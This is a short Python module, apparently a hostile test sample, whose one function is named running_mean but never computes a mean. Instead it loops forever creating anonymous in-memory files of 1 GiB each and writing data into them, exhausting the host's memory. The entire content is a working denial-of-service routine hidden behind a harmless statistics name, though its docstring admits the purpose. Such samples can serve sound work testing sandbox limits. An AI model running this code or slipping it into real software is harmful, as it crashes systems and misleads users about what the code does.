"""Fills memory through files that stand nowhere."""
import os


def running_mean(x):
    while True:
        file = os.memfd_create("manyheads_hostile")
        os.truncate(file, 1 << 30)
        os.write(file, b"x" * (1 << 20))
